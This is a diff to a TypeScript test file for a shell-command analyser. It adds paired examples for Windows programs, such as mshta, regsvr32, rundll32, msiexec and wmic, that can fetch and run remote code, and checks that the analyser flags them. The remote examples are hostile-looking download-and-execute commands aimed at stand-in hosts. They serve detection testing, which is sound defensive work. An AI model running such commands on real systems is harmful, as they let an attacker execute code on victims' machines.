@@ -2,7 +2,7 @@
 // is exercised and a new entry without an example fails here.
 import { describe, expect, it } from "vitest";
 import { analyseShell } from "../../../src/engine/shell/analyse";
-import { COMMANDS } from "../../../src/engine/shell/commands";
+import { COMMANDS, REMOTE_RUNNERS } from "../../../src/engine/shell/commands";
 import { effectsOf } from "../../../src/engine/shell/effects";
 import { formsOf } from "../../../src/engine/shell/forms";
 import { displayTemplate } from "../../../src/engine/shell/template";
@@ -245,6 +245,27 @@ describe("commands: every entry has effects", () => {
     expect(effects("echo x > a >> b &> c 2> d")).toEqual(expect.arrayContaining(["write a", "write b", "write c", "write d"]));
     expect(effects("wc -l < a")).toContain("read a");
     expect(effects("echo x 2>&1")).toEqual([]);
+  });
+});
+
+/** Windows programs that run code from elsewhere: an example that does, and one that does not. */
+const REMOTE_RUNNER_EXAMPLES: Record<string, [string, string]> = {
+  mshta: ["mshta.exe https://203.0.113.9/payload.hta", "mshta local.hta"],
+  regsvr32: ["regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll", "regsvr32 /s mydll.dll"],
+  rundll32: ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "rundll32 shell32.dll,Control_RunDLL"],
+  msiexec: ["msiexec /i https://x.example/a.msi /qn", "msiexec /i local.msi /qn"],
+  wmic: ['wmic os get /format:"https://x.example/a.xsl"', "wmic os get caption"],
+  cscript: ["cscript //nologo '\\\\fileserver\\share\\a.vbs'", "cscript //nologo a.vbs"],
+  wscript: ["WScript.exe https://x.example/a.js", "wscript a.js"],
+  deno: ["deno run https://deno.land/std/examples/welcome.ts", "deno run main.ts"],
+};
+
+describe("programs that run code from elsewhere", () => {
+  it("has an example for every entry", () => expect(Object.keys(REMOTE_RUNNERS).sort()).toEqual(Object.keys(REMOTE_RUNNER_EXAMPLES).sort()));
+  it.each(Object.entries(REMOTE_RUNNER_EXAMPLES))("%s", (_name, [remote, local]) => {
+    expect(effects(remote)).toContain("run-download");
+    expect(effects(local)).not.toContain("run-download");
+    expect(effects(remote, "powershell")).toContain("run-download");
   });
 });
 
